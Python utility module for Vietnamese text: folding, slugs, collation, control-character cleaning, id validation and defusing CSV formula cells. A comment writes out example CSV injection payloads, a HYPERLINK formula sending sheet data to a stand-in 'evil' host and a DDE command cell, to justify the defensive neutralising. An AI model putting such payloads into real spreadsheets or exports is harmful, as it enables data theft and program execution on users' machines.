"""Vietnamese text helpers: NFC normalisation, ASCII folding, slugs and collation."""

from __future__ import annotations

import re
import unicodedata
from functools import lru_cache
from typing import Any

# Combining marks that make a distinct letter of the Vietnamese alphabet (ă â ê ô ơ ư),
# as opposed to the five tone marks, which only matter after the letters when sorting.
_LETTER_MARKS = {"\u0306": 1, "\u0302": 2, "\u031b": 3}  # breve, circumflex, horn
_TONE_MARKS = {"\u0300": 1, "\u0309": 2, "\u0303": 3, "\u0301": 4, "\u0323": 5}  # ` ? ~ ' .

_ALPHABET = "aăâbcdđeêfghijklmnoôơpqrstuưvwxyz"
_ORDER = {ch: i for i, ch in enumerate(_ALPHABET)}


def nfc(text: str) -> str:
    return unicodedata.normalize("NFC", text)


@lru_cache(maxsize=65536)  # place names, issuers and units repeat across thousands of records
def fold(text: str) -> str:
    """Lower-case ASCII form: 'Đức Linh' → 'duc linh'. For matching and slugs."""
    decomposed = unicodedata.normalize("NFD", text.replace("đ", "d").replace("Đ", "D"))
    if decomposed.isascii():
        return decomposed.lower()
    stripped = "".join(ch for ch in decomposed if not unicodedata.combining(ch))
    return stripped.lower()


def slugify(text: str, max_length: int = 80) -> str:
    slug = re.sub(r"[^a-z0-9]+", "-", fold(text)).strip("-")
    return slug[:max_length].rstrip("-")


_CHAR_KEYS: dict[str, tuple[int, int]] = {}


def _char_key(ch: str) -> tuple[int, int]:
    """(letter order, tone) of one lower-case character, memoised: names repeat their letters."""
    key = _CHAR_KEYS.get(ch)
    if key is None:
        decomposed = unicodedata.normalize("NFD", ch)
        base, marks = decomposed[0], decomposed[1:]
        letter = (
            "đ"
            if ch == "đ"
            else next((unicodedata.normalize("NFC", base + m) for m in _LETTER_MARKS if m in marks), base)
        )
        if letter in _ORDER:
            primary = _ORDER[letter] + 1
        elif base.isdigit():
            primary = -10 + int(base)
        elif base.isalpha():
            primary = 100 + ord(base)
        else:
            primary = 0
        key = _CHAR_KEYS[ch] = (primary, next((v for m, v in _TONE_MARKS.items() if m in marks), 0))
    return key


@lru_cache(maxsize=65536)
def sort_key(text: str) -> tuple:
    """Collation key in Vietnamese alphabetical order (a ă â b c d đ e ê …).

    Python's default order puts 'Đ' after 'Z' and 'Ă' after every plain letter, which
    scatters Vietnamese names; tones only break ties, as in a Vietnamese dictionary.
    """
    keys = [_char_key(ch) for ch in nfc(text).lower()]
    return (tuple(k[0] for k in keys), tuple(k[1] for k in keys), text)


# A spreadsheet (Excel, LibreOffice, Google Sheets) opening a CSV or TSV runs a cell starting with one of
# these as a formula: `=HYPERLINK("http://evil/?"&A1)` sends the sheet's data away, `+1+cmd|...` (DDE) runs a
# program. Record text is typed or imported by anyone, so every such cell is neutralised.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value: Any) -> Any:
    """A text cell that a spreadsheet would read as a formula, made plain text the way OWASP recommends.

    A single quote in front makes the spreadsheet show the text as typed (and is not shown by Excel);
    the csv writer then quotes the cell and doubles its inner quotes where the format needs it. Numbers
    are left alone: they are never negative here (prices, scores, stars), and a number is not a formula.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


# Characters that change what a terminal or a page shows rather than being text: terminal escape codes
# (ANSI: `ESC [31m` colours `ocop report`, others move the cursor or retitle the window), the other control
# characters (NUL, bell, backspace...), and the bidirectional overrides and isolates that make
# "gpj.exe" read as "exe.jpg". Record text is cleaned of them once, when it is read.
_ANSI = re.compile(r"\x1b(\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(\x07|\x1b\\)?|[@-Z\\-_])")
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_KEPT_CONTROLS = "\n\t"  # line breaks in descriptions; a tab is harmless in text (neutralised in CSVs)
_UNWANTED = re.compile(
    "[" + "".join(f"\\x{c:02x}" for c in range(0x20) if chr(c) not in _KEPT_CONTROLS) + "\x7f-\x9f" + _BIDI + "]"
)


_UNWANTED_BETWEEN = re.compile(f"(?<=\\S){_UNWANTED.pattern}+(?=\\S)")


def clean_text(text: str) -> str:
    """The text without escape codes, control characters (but line breaks and tabs) and direction overrides.

    One that stands between two words becomes a space, never gluing them ("Cơ\\x1fsở" is "Cơ sở"), as the feeds'
    own cleaning does (`ocop.feeds.clean`)."""
    if not _UNWANTED.search(text):
        return text
    text = _ANSI.sub("\x1b", text)  # a whole escape sequence counts as one unwanted character
    return _UNWANTED.sub("", _UNWANTED_BETWEEN.sub(" ", text))


def printable(text: str) -> str:
    """The text as a message may print it: what a terminal would act on written as escapes (\\x1b, \\u202e)."""
    if not _UNWANTED.search(text) and "\n" not in text:
        return text
    return "".join(
        (repr(ch)[1:-1] if ch in _KEPT_CONTROLS else f"\\x{ord(ch):02x}" if ord(ch) < 0x100 else f"\\u{ord(ch):04x}")
        if ch in _KEPT_CONTROLS or _UNWANTED.match(ch)
        else ch
        for ch in text
    )


# --- ids and page addresses: they become folder names and web addresses --------------------------

SAFE_NAME = re.compile(r"[a-z0-9]+(-[a-z0-9]+)*\Z")
# Names Windows keeps for devices: a folder `san-pham/con/` cannot be created, copied or unzipped there.
WINDOWS_RESERVED = frozenset(["con", "prn", "aux", "nul"] + [f"{d}{i}" for d in ("com", "lpt") for i in range(10)])
ID_LIMIT, SLUG_LIMIT = 50, 80  # characters (the schema's maxLength of `id` and `slug`)


def unsafe_name(value: str, limit: int) -> str | None:
    """Why a text cannot be an id or a page address: "characters", "length" or "reserved"; None when it can.

    Only lowercase a-z, digits and inner hyphens: no "..", "/", line break or space can reach a path or a record.
    """
    if not SAFE_NAME.match(value):
        return "characters"
    if len(value) > limit:
        return "length"
    return "reserved" if value in WINDOWS_RESERVED else None
